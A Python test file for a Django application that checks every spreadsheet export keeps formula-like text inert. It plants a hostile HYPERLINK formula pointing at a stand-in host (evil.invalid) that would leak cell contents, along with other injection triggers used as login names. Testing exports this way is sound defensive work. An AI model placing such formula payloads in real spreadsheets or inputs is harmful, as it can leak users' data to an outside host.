"""Every spreadsheet export keeps formula-like text inert (OWASP formula injection; ASVS 4.0 V5.3.10): the
exports are found by walking the code, and each is made with a hostile value in it."""

import io
import re
from datetime import date
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from dukao.assessment.exports import assessment_xlsx
from dukao.assessment.services import assessment_run
from dukao.lib.xlsx import FORMULA_TRIGGERS, append_rows
from dukao.plans import selectors
from dukao.plans.cadres import cadres_export_xlsx, cadres_import
from dukao.plans.exports import plans_export_xlsx
from dukao.plans.models import Task
from dukao.supervision.exports import ledger_xlsx
from dukao.supervision.selectors import StatusFilter, period_statuses, with_latest_progress
from dukao.supervision.services import status_recompute
from dukao.units.models import Cadre
from tests.paths import FIXTURES

HOSTILE = '=HYPERLINK("http://evil.invalid/?"&A1,"点此")'
SOURCE = Path(__file__).resolve().parents[2] / "dukao"
#: The modules that build a workbook, each covered by a test below.
EXPORTERS = {
    "plans/exports.py",
    "plans/cadres.py",
    "assessment/exports.py",
    "audit/views.py",
    "supervision/exports.py",
}


def _formula_like_cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS)
    ]


def _assert_inert(content: bytes) -> None:
    cells = _formula_like_cells(content)
    assert HOSTILE in [c.value for c in cells]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_every_workbook_and_no_csv_is_written_by_a_module_this_file_covers():
    found = {
        str(path.relative_to(SOURCE))
        for path in SOURCE.rglob("*.py")
        if "migrations" not in path.parts and re.search(r"\bWorkbook\(", path.read_text())
    }
    assert found == EXPORTERS
    writers = [p for p in SOURCE.rglob("*.py") if re.search(r"csv\.(writer|DictWriter)", p.read_text())]
    assert writers == [], "a CSV export must prefix formula-like cells with ' (docs/security.md)"


def test_the_plan_export(work_report):
    work_report.tasks.filter(seq="1").update(name=HOSTILE)
    _assert_inert(plans_export_xlsx([work_report]))


def test_the_cadre_register_export_and_its_round_trip(db):
    register = FIXTURES / "registers" / "cadres.csv"
    cadres_import(content=register.read_bytes(), file_name=register.name)
    Cadre.objects.filter(pk=Cadre.objects.order_by("pk").first().pk).update(post=HOSTILE)
    exported = cadres_export_xlsx(selectors.cadre_list())
    _assert_inert(exported)
    assert len(cadres_import(content=exported, file_name="导出.xlsx").unchanged) == 4


def test_the_ledger_export(seed, supervisor):
    task = Task.objects.order_by("pk").first()
    task.name = HOSTILE
    task.save(update_fields=["name"])
    status_recompute(period=date(2019, 6, 1), today=date(2019, 7, 20))
    statuses = period_statuses(supervisor, date(2019, 6, 1))
    _assert_inert(ledger_xlsx(with_latest_progress(statuses, date(2019, 6, 1)), date(2019, 6, 1), StatusFilter()))


def test_the_assessment_export(seed, supervisor):
    cells = _formula_like_cells(assessment_xlsx(assessment_run(year=2019, user=supervisor, title=HOSTILE)))
    assert any(c.value.startswith(HOSTILE) for c in cells)  # the title rows: "…（截至2019年12月，草稿）"
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


@pytest.mark.parametrize("value", ["+1+1", "-2", "@SUM(A1)", HOSTILE])
def test_the_audit_export_with_a_hostile_account_name_from_a_failed_sign_in(client, auditor, value):
    client.post(reverse("login"), {"username": value, "password": "x"})
    client.force_login(auditor)
    cells = _formula_like_cells(client.get(reverse("audit:event_export")).content)
    assert value in [c.value for c in cells] and all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_append_rows_keeps_every_trigger_as_exact_text_and_numbers_as_numbers():
    book = Workbook()
    values = [f"{trigger}1+1" for trigger in FORMULA_TRIGGERS]
    append_rows(book.active, [[*values, -2, "局长"]])
    cells = load_workbook(io.BytesIO(_saved(book))).active[1]
    assert [c.value for c in cells] == [*values, -2, "局长"]
    assert [c.quotePrefix for c in cells] == [True] * len(values) + [False, False]


def _saved(book: Workbook) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_ordinary_text_gets_no_quote_prefix(work_report):
    book = load_workbook(io.BytesIO(plans_export_xlsx([work_report])))
    cells = [c for row in book.worksheets[1].iter_rows() for c in row if isinstance(c.value, str)]
    assert cells and not any(c.quotePrefix for c in cells if not c.value.startswith(FORMULA_TRIGGERS))
